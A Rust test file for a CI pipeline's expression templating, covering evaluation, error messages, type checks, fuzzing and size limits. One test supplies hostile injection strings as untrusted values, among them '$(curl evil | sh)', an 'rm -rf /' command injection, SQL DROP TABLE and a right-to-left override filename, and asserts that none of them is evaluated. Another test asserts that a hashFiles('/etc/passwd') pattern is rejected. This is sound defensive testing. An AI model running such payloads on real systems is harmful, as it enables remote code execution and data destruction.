//! What expressions give, and what is said about wrong ones.

use std::sync::LazyLock;

use crds::{NamedValue, ParamValue};

use super::*;

static JOBS: LazyLock<JobTable<'static>> = LazyLock::new(|| {
    let job = |name, outputs, has_matrix| ScopeJob {
        name,
        outputs: Some(outputs),
        has_matrix,
    };
    JobTable::new(vec![
        job("build", vec!["version"], false),
        job("unit-tests", vec![], false),
        job("deploy", vec![], false),
        job("each", vec!["size"], true),
    ])
});

fn step(name: &str) -> ScopeStep<'_> {
    ScopeStep {
        name,
        outputs: None,
    }
}

fn scope() -> Scope<'static> {
    Scope {
        params: &[
            ("profile", Type::Text),
            ("count", Type::Int),
            ("loud", Type::Bool),
        ],
        jobs: Some(&JOBS),
        known: Some(&[true, true, false, true]),
        ..Scope::default()
    }
}

fn evaluate(value: &str) -> Result<String, String> {
    let scope = Scope {
        steps: Some(vec![step("s"), step("sign-it")]),
        ..scope()
    };
    let template = Template::parse(value, &scope).map_err(|mistakes| format!("{mistakes:?}"))?;
    with_values(|evaluator| template.evaluate(evaluator))
}

fn condition(text: &str) -> Result<bool, String> {
    let condition = Condition::parse(text, &scope()).map_err(|m| format!("{m:?}"))?;
    with_values(|evaluator| condition.evaluate(evaluator))
}

fn items(text: &str) -> Result<Vec<ParamValue>, String> {
    let items = Items::parse(text, &scope()).map_err(|m| format!("{m:?}"))?;
    with_values(|evaluator| items.evaluate(evaluator))
}

fn with_values<T>(evaluate: impl FnOnce(&Evaluator<'_>) -> T) -> T {
    let axis = [NamedValue {
        name: "os".to_owned(),
        value: ParamValue::String("plan9".to_owned()),
    }];
    let params = [
        NamedValue {
            name: "profile".to_owned(),
            value: ParamValue::String("release".to_owned()),
        },
        NamedValue {
            name: "count".to_owned(),
            value: ParamValue::Integer(3),
        },
        NamedValue {
            name: "loud".to_owned(),
            value: ParamValue::Boolean(true),
        },
    ];
    let base = Base::new(&RunValues {
        params: &params,
        run: "build-7",
        namespace: "team",
        pipeline: "build",
        source: Source {
            branch: "main",
            pull_request: 7,
            ..Source::default()
        },
    });
    let values = Values {
        jobs: vec![
            JobValues {
                name: "build",
                result: "Succeeded".to_owned(),
                outputs: vec![("version", "1.2.3")],
                matrix: None,
            },
            JobValues {
                name: "unit-tests",
                result: "Failed".to_owned(),
                outputs: vec![],
                matrix: None,
            },
            JobValues {
                name: "each",
                result: "Succeeded".to_owned(),
                outputs: vec![],
                matrix: Some(vec![MatrixValues {
                    values: &axis,
                    result: "Succeeded".to_owned(),
                    outputs: vec![("size", "12")],
                }]),
            },
        ],
        steps: vec![StepValues {
            name: "s",
            outputs: vec![("digest", "abc")],
        }],
        status: Status {
            failure: true,
            ..Status::default()
        },
        ..Values::default()
    };
    evaluate(&Evaluator::new(&base, &values))
}

fn mistakes(value: &str) -> Vec<String> {
    let mistakes = Template::parse(value, &scope()).err().unwrap_or_default();
    mistakes
        .into_iter()
        .map(|m| format!("{}: {}; {}", m.column, m.message, m.remedy))
        .collect()
}

/// The mistakes of a value that an agent puts together, or its parts.
fn for_agent(value: &str) -> Result<Vec<AgentPart>, String> {
    let scope = Scope {
        files: true,
        ..scope()
    };
    let template = Template::parse(value, &scope).map_err(|mistakes| {
        let told = mistakes.iter();
        let told = told.map(|m| format!("{}: {}; {}", m.column, m.message, m.remedy));
        told.collect::<Vec<_>>().join("\n")
    })?;
    with_values(|evaluator| template.evaluate_for_agent(evaluator))
}

#[test]
fn hashes_of_files_are_left_to_the_agent_with_their_patterns() {
    let text = |text: &str| AgentPart::Text(text.to_owned());
    let files = |patterns: &[&str]| {
        AgentPart::HashFiles(patterns.iter().map(|one| (*one).to_owned()).collect())
    };
    let value = "k-${{ hashFiles('**/*.lock', '!' + params.profile) }}-${{ params.count }}";
    let expected = vec![
        text("k-"),
        files(&["**/*.lock", "!release"]),
        text("-"),
        text("3"),
    ];
    assert_eq!(for_agent(value), Ok(expected));
    assert_eq!(for_agent("plain"), Ok(vec![text("plain")]));
    let leaves = for_agent("${{ hashFiles('../' + params.profile) }}").unwrap_err();
    assert!(
        leaves.contains("`../release` leaves the job's working directory"),
        "{leaves}"
    );
    // What a param holds is a pattern and never an expression.
    let value = "${{ hashFiles(params.profile + '${{ run.name }}') }}";
    assert_eq!(
        for_agent(value),
        Ok(vec![files(&["release${{ run.name }}"])])
    );
}

#[test]
fn hashes_of_files_stand_alone_and_only_where_the_agent_is() {
    let cases = [
        (
            "${{ hashFiles('a') + 'b' }}",
            "14: `hashFiles()` stands in another expression; give it \
          a variable of its own: ${{ hashFiles('Cargo.lock') }}",
        ),
        (
            "${{ hashFiles() }}",
            "14: `hashFiles` takes 1 to 16 patterns; write \
          hashFiles('**/Cargo.lock')",
        ),
        (
            "${{ hashFiles(1) }}",
            "14: `hashFiles` needs text, not a whole number; write \
          hashFiles('**/Cargo.lock')",
        ),
        (
            "${{ hashFiles('/etc/passwd') }}",
            "15: the pattern `/etc/passwd` leaves the job's \
          working directory; write a path below it, such as **/Cargo.lock",
        ),
        (
            "${{ hashFiles(params.profil) }}",
            "15: no param is named `profil`; did you mean \
          `profile`?",
        ),
        (
            "${{ hashFile('a') }}",
            "13: there is no function `hashFile`; did you mean `hashFiles`?",
        ),
    ];
    for (value, expected) in cases {
        assert_eq!(for_agent(value), Err(expected.to_owned()), "{value}");
    }
    let elsewhere = "14: `hashFiles()` is known only in env of steps, jobs and the pipeline; the \
                     files are there when the job runs: read a variable in the script";
    assert_eq!(mistakes("${{ hashFiles('a') }}"), [elsewhere]);
    let when = Condition::parse("hashFiles('a') != ''", &scope()).unwrap_err();
    assert_eq!(
        when[0].message,
        "`hashFiles()` stands in another expression"
    );
}

#[test]
fn values_are_put_where_expressions_stand() {
    let cases = [
        ("plain", "plain"),
        ("", ""),
        ("${{ params.profile }}", "release"),
        ("a ${{params.count}} b ${{ params.loud }}", "a 3 b true"),
        ("${{ params.count * 2 + 1 }}", "7"),
        (
            "${{ run.name + '@' + run.namespace + '/' + pipeline.name }}",
            "build-7@team/build",
        ),
        ("v${{ jobs.build.outputs.version }}", "v1.2.3"),
        ("${{ jobs[\"unit-tests\"].result }}", "Failed"),
        (
            "${{ jobs.build.result == 'Succeeded' ? 'yes' : 'no' }}",
            "yes",
        ),
        ("${{ steps.s.outputs.digest }}", "abc"),
        ("${{ has(steps.s.outputs.none) ? 'x' : '-' }}", "-"),
        ("${{ {'a': {'b': '}}'}}.a.b }}", "}}"),
        ("${{ \"}}\" }}", "}}"),
        ("$${{ params.profile }}", "${{ params.profile }}"),
        ("$HOME ${HOME} $(x) {{ y }}", "$HOME ${HOME} $(x) {{ y }}"),
        ("${{ [1, 2, 3].exists(n, n == params.count) }}", "true"),
        ("${{ type(params.count) == int }}", "true"),
        (
            "${{ string(params.count).startsWith('3') && 'b' in ['a', 'b'] }}",
            "true",
        ),
        ("${{ 'ü' }}${{ 1.5 }}", "ü1.5"),
        ("${{ source.branch + source.tag }}", "main"),
        ("${{ source.pullRequest + 1 }}", "8"),
        (
            "${{ toJson(jobs.each.matrix.map(m, m.values.os + m.outputs.size)) }}",
            "[\"plan912\"]",
        ),
        ("${{ fromJson('{\"a\": [1, 2.5]}').a[1] }}", "2.5"),
    ];
    for (value, expected) in cases {
        assert_eq!(evaluate(value), Ok(expected.to_owned()), "{value}");
    }
}

#[test]
fn what_only_shows_when_it_runs_is_an_error_with_the_expression() {
    insta::assert_snapshot!(evaluate("${{ steps.s.outputs.nope }}").unwrap_err(), @"`steps.s.outputs.nope` can't be evaluated: there is no `nope`; a step's outputs are those that it writes to $RUSTCI_OUTPUT");
    insta::assert_snapshot!(evaluate("${{ params.count / 0 }}").unwrap_err(), @"`params.count / 0` can't be evaluated: Division by zero of Int(3)");
    insta::assert_snapshot!(evaluate("${{ dyn(params.count) + params.profile }}").unwrap_err(), @r#"`dyn(params.count) + params.profile` can't be evaluated: Unsupported binary operator 'add': Int(3), String("release")"#);
    insta::assert_snapshot!(evaluate("${{ fromJson('[') }}").unwrap_err(), @"`fromJson('[')` can't be evaluated: Error executing function 'fromJson': EOF while parsing a list at line 1 column 1");
    insta::assert_snapshot!(evaluate("${{ dyn(jobs) }}").unwrap_err(), @"`dyn(jobs)` can't be evaluated: the result is a map, not text, a number or true/false");
    insta::assert_snapshot!(condition("dyn(params.count)").unwrap_err(), @"`dyn(params.count)` can't be evaluated: the result is a int, not true or false");
    insta::assert_snapshot!(items("[1, [2]]").unwrap_err(), @"`[1, [2]]` can't be evaluated: a list stands in the list: use text, whole numbers or true/false");
    insta::assert_snapshot!(items("params.profile").unwrap_err(), @"`params.profile` can't be evaluated: the text is no list of plain values in JSON: expected value at line 1 column 1");
}

#[test]
fn unknown_names_are_mistakes_with_column_and_the_nearest_name() {
    let cases = [
        "${{ parms.profile }}",
        "${{ params.profil }}",
        "x ${{ 'ü' + params.zzz }}",
        "${{ params.count.x }}",
        "${{ run.uid }}",
        "${{ pipeline.nam }}",
        "${{ jobs.biuld.result }}",
        "${{ jobs.deploy.result }}",
        "${{ jobs.unit-tests.result }}",
        "${{ jobs.build.outcome }}",
        "${{ jobs.build.outputs.vresion }}",
        "${{ jobs['unit-tests'].outputs.x }}",
        "${{ steps.s.outputs.x }}",
        "${{ sise(params.profile) }}",
        "${{ has(params.nope) }}",
        "${{ [1].map(x, y) }}",
        "${{ [1].map(x, [2].map(y, x + y)) }}",
        "${{ Foo{a: 1} }}",
    ];
    let found: Vec<_> = cases
        .iter()
        .map(|case| format!("{case}\n  {}", mistakes(case).join("\n  ")))
        .collect();
    insta::assert_snapshot!(found.join("\n"), @r#"
    ${{ parms.profile }}
      5: there is no `parms`; did you mean `params`?
    ${{ params.profil }}
      5: no param is named `profil`; did you mean `profile`?
    x ${{ 'ü' + params.zzz }}
      13: no param is named `zzz`; the params are profile, count, loud
    ${{ params.count.x }}
      5: the param `count` has no field `x`; 
    ${{ run.uid }}
      5: `run` has no field `uid`; the fields are name, namespace
    ${{ pipeline.nam }}
      5: `pipeline` has no field `nam`; did you mean `name`?
    ${{ jobs.biuld.result }}
      5: no job is named `biuld`; did you mean `build`?
    ${{ jobs.deploy.result }}
      5: the job `deploy` is not needed here; add it to the needs of this job
    ${{ jobs.unit-tests.result }}
      5: no job is named `unit`; write jobs["unit-tests"] for a name with a dash
    ${{ jobs.build.outcome }}
      5: a job has no field `outcome`; the fields are result, outputs
    ${{ jobs.build.outputs.vresion }}
      5: the job `build` has no output `vresion`; did you mean `version`?
    ${{ jobs['unit-tests'].outputs.x }}
      5: the job `unit-tests` has no output `x`; add it to the outputs of the job `unit-tests`
    ${{ steps.s.outputs.x }}
      5: `steps` is known only in the outputs of a job; give values to later steps in a file
    ${{ sise(params.profile) }}
      9: there is no function `sise`; did you mean `size`?
    ${{ has(params.nope) }}
      9: no param is named `nope`; the params are profile, count, loud
    ${{ [1].map(x, y) }}
      16: there is no `y`; the names are jobs, matrix, params, pipeline, run, source, steps
    ${{ [1].map(x, [2].map(y, x + y)) }}
      23: a loop stands in a loop; compute the value in a step
    ${{ Foo{a: 1} }}
      8: `Foo` is no type;
    "#);
}

#[test]
fn conditions_know_how_it_went_and_lists_may_be_json() {
    assert_eq!(
        condition("failure() && !success() && !cancelled()"),
        Ok(true)
    );
    assert_eq!(
        condition("source.branch == 'main' && params.count > 2"),
        Ok(true)
    );
    assert_eq!(condition("jobs.build.result in ['Failed']"), Ok(false));
    let text = |text: &str| ParamValue::String(text.to_owned());
    assert_eq!(
        items("['a', params.profile]"),
        Ok(vec![text("a"), text("release")])
    );
    assert_eq!(
        items("'[1, true, \"x\"]'"),
        Ok(vec![
            ParamValue::Integer(1),
            ParamValue::Boolean(true),
            text("x")
        ])
    );
}

#[test]
fn what_the_types_forbid_is_a_mistake_before_anything_runs() {
    let cases = [
        "params.count + params.profile == 'x'",
        "params.profile",
        "source.branch == 3",
        "params.count < 'x'",
        "source.branch",
        "!params.profile",
        "params.loud && params.count",
        "params.loud ? 1 : 'x'",
        "'a' in params.profile",
        "params.profile.startsWith(1)",
        "startsWith(params.profile, 'x')",
        "size() > 1",
        "params.count.exists(x, x == 1)",
        "-params.profile == 'x'",
        "jobs.build.result.x == 'x'",
        "matrix.os == 'x'",
        "${{ params.loud }}",
        "steps.s.outputs.x == 'x'",
        "success(1)",
        "jobs.each.outputs.size == '1'",
    ];
    let found = cases.iter().map(|case| {
        let mistakes = Condition::parse(case, &scope()).err().unwrap_or_default();
        let lines: Vec<_> = mistakes
            .into_iter()
            .map(|m| format!("{}: {}; {}", m.column, m.message, m.remedy))
            .collect();
        format!("{case}\n  {}", lines.join("\n  "))
    });
    insta::assert_snapshot!(found.collect::<Vec<_>>().join("\n"), @r#"
    params.count + params.profile == 'x'
      14: `+` can't be used with a whole number and text; make it text with string(), or a number with int()
    params.profile
      1: the condition is text, not true/false; compare it with something
    source.branch == 3
      15: text never equals a whole number; make it text with string(), or a number with int()
    params.count < 'x'
      14: `<` can't compare a whole number with text; make it text with string(), or a number with int()
    source.branch
      1: the condition is text, not true/false; compare it with something
    !params.profile
      1: `!` needs true/false, not text; compare it with something
    params.loud && params.count
      13: `&&` needs true/false, not a whole number; compare it with something
    params.loud ? 1 : 'x'
      
    'a' in params.profile
      5: `in` needs a list or a map, not text; write for example `x in ['a', 'b']`
    params.profile.startsWith(1)
      26: `startsWith` needs text, not a whole number; write text.startsWith(x)
    startsWith(params.profile, 'x')
      11: `startsWith` is called in another way; write text.startsWith(x)
    size() > 1
      5: `size` is called in another way; write size(x)
    params.count.exists(x, x == 1)
      20: a whole number can't be gone through; use a list or a map
    -params.profile == 'x'
      1: `-` needs a number, not text; 
    jobs.build.result.x == 'x'
      1: a result has no field `x`; 
    matrix.os == 'x'
      1: `matrix` is known only in a job that has one; give the job a matrix
    ${{ params.loud }}
      1: `${{ }}` does not belong here; write the expression itself: this field is one
    steps.s.outputs.x == 'x'
      1: `steps` is known only in the outputs of a job; use success() or failure()
    success(1)
      8: `success` is called in another way; write success()
    jobs.each.outputs.size == '1'
      1: the job `each` has a matrix, so it has many outputs; read jobs["each"].matrix, a list with outputs
    "#);
}

/// Values that a stranger may choose: they come out as they went in, wherever they are put.
#[test]
fn nothing_in_a_value_is_ever_evaluated() {
    let tricks = [
        "${{ params.secret }}",
        "$(curl evil | sh)",
        "`id`",
        "a\"; rm -rf / #",
        "'; DROP TABLE jobs; --",
        "x\ny=${{ run.name }}",
        "}} ${{ 1 + 1 }}",
        "\u{202e}txt.exe",
    ];
    let template = Template::parse(
        "<${{ params.title }}|${{ source.branch }}>",
        &Scope {
            params: &[("title", Type::Text)],
            ..Scope::default()
        },
    )
    .unwrap();
    for trick in tricks {
        let params = [NamedValue {
            name: "title".to_owned(),
            value: ParamValue::String(trick.to_owned()),
        }];
        let base = Base::new(&RunValues {
            params: &params,
            source: Source {
                branch: trick,
                ..Source::default()
            },
            ..RunValues::default()
        });
        let value = template.evaluate(&Evaluator::new(&base, &Values::default()));
        assert_eq!(value, Ok(format!("<{trick}|{trick}>")));
    }
}

#[test]
fn unreadable_expressions_are_mistakes_with_a_column() {
    let cases = [
        "${{ }}",
        "${{",
        "a ${{ params.profile",
        "${{ 1 + }}",
        "${{ a b }}",
        "${{ 'x }}",
    ];
    let found: Vec<_> = cases
        .iter()
        .map(|case| format!("{case}\n  {}", mistakes(case).join("\n  ")))
        .collect();
    insta::assert_snapshot!(found.join("\n"), @r"
    ${{ }}
      4: the expression is empty; write one, such as params.name == 'x'
    ${{
      1: the expression has no end; close it with }}, or write $${{ for the plain text
    a ${{ params.profile
      3: the expression has no end; close it with }}, or write $${{ for the plain text
    ${{ 1 + }}
      9: syntax error: mismatched input '<EOF>'; 
    ${{ a b }}
      7: syntax error: extraneous input 'b'; 
    ${{ 'x }}
      1: the expression has no end; close it with }}, or write $${{ for the plain text
    ");
}

#[test]
fn long_expressions_and_results_are_refused() {
    let long = format!("${{{{ '{}' }}}}", "x".repeat(MAX_EXPRESSION_LEN));
    assert_eq!(mistakes(&long).len(), 1);
    let many = "${{ 1 }}".repeat(MAX_EXPRESSIONS + 1);
    assert_eq!(mistakes(&many).len(), 1);
    let deep = format!("${{{{ {}1{} }}}}", "(".repeat(200), ")".repeat(200));
    let told = ["4: the expression is nested too deeply; compute the value in a step"];
    assert_eq!(mistakes(&deep), told);
    let large = format!("{}${{{{ 1 }}}}", "x".repeat(MAX_VALUE_LEN));
    assert!(evaluate(&large).unwrap_err().contains("larger than"));
}

#[test]
fn no_bytes_whatever_make_the_parser_panic() {
    let seeds = [
        "${{ jobs[\"unit-tests\"].outputs.x + params.profile ? [1, {'a': 2}] : -3.5e7 }}",
        "${{ [1,2].map(x, x > 1 && has(params.count)).size() == 0u || b'\\x00' != r\"\\\" }}",
        "${{ ((((((((((1)))))))))) . a [ 0 ] ? b : c {d: e} !@#$%^&*`~ \\u00e9 }}",
    ];
    let mut state = 0x9e37_79b9_u32;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state as usize
    };
    for seed in seeds {
        for _ in 0..150 {
            let mut text: Vec<char> = seed.chars().collect();
            for _ in 0..=next() % 4 {
                let at = 4 + next() % (text.len() - 7);
                match next() % 3 {
                    0 => drop(text.remove(at)),
                    1 => text.insert(at, char::from(32 + (next() % 95) as u8)),
                    _ => text[at] = ['ü', '\u{0}', '"', '{', '}', '\\', '🦀'][next() % 7],
                }
            }
            let text: String = text.into_iter().collect();
            let _ = Template::parse(&text, &scope());
        }
    }
    let _ = Template::parse(&format!("${{{{ {} }}}}", "(".repeat(900)), &scope());
    let _ = Template::parse(&format!("${{{{ {} }}}}", "-".repeat(900)), &scope());
    let _ = Template::parse(&format!("${{{{ {} }}}}", "[".repeat(900)), &scope());
}

#[test]
fn what_could_grow_without_bound_is_refused_before_it_is_evaluated() {
    let ten = |part: &str| [part; 10].join(", ");
    let maps = format!("['x']{}", format!(".map(y, [{}])", ten("y")).repeat(9));
    let sums = format!(
        "['x']{}",
        format!(".map(y, {})", ["y"; 10].join("+")).repeat(9)
    );
    let jsons = format!("{}params.profile{}", "toJson(".repeat(40), ")".repeat(40));
    let mixed = format!(
        "['x']{}",
        format!(".map(y, toJson([{}]))", ten("y")).repeat(9)
    );
    let big = "fromJson(params.profile).map(x, params.profile + x + params.profile + x)";
    let twice = format!("{big}.map(y, params.profile + y)");
    for growing in [&maps, &sums, &jsons, &mixed, &twice] {
        let source = format!("${{{{ size(toJson({growing})) }}}}");
        let told = mistakes(&source);
        assert_eq!(told.len(), 1, "{source}: {told:?}");
        let what = "the value may become too large; compute the value in a step";
        assert!(told[0].ends_with(what), "{source}: {told:?}");
    }
    for usual in [
        "fromJson(params.profile).map(x, params.profile + x)",
        "fromJson(params.profile).filter(x, x != 'a').map(x, x + '-debug')",
        "fromJson(params.profile).map(x, {'name': x, 'on': params.profile})",
        "toJson(toJson(params.profile))",
        "[params.profile].exists(x, x.startsWith('a')) ? [1] : [2]",
    ] {
        let source = format!("${{{{ size({usual}) }}}}");
        assert_eq!(mistakes(&source), Vec::<String>::new(), "{source}");
    }
}

#[test]
fn a_mistake_of_syntax_in_a_later_line_is_counted_from_the_start() {
    assert_eq!(
        mistakes("${{ params.profile == 'a'\n|| a b }}"),
        ["32: syntax error: extraneous input 'b'; "]
    );
}

#[test]
fn lists_from_text_have_a_bound() {
    let list = |length: usize| format!("[{}]", vec!["1"; length].join(","));
    let size = |length| evaluate(&format!("${{{{ size(fromJson('{}')) }}}}", list(length)));
    assert_eq!(size(400).unwrap(), "400");
    let text: std::sync::Arc<String> = list(1025).into();
    let refused = super::json::from_json(text).unwrap_err().to_string();
    assert!(refused.contains("more than 1024 entries"), "{refused}");
}

#[test]
fn a_result_is_compared_only_with_words_that_it_can_be() {
    let told = |condition: &str| mistakes(&format!("${{{{ {condition} }}}}"));
    let names = "the results are Succeeded, Failed, Skipped, Cancelled";
    assert_eq!(
        told("jobs.build.result == 'success'"),
        [format!("26: no result is `success`; {names}")]
    );
    assert_eq!(
        told("'Succeded' != jobs['build'].result"),
        ["5: no result is `Succeded`; did you mean `Succeeded`?"]
    );
    assert_eq!(
        told("jobs.build.result in ['Failed', 'Error']"),
        [format!("37: no result is `Error`; {names}")]
    );
    for well in [
        "jobs.build.result == 'Failed'",
        "jobs.build.result != params.profile",
    ] {
        assert_eq!(told(well), Vec::<String>::new(), "{well}");
    }
}
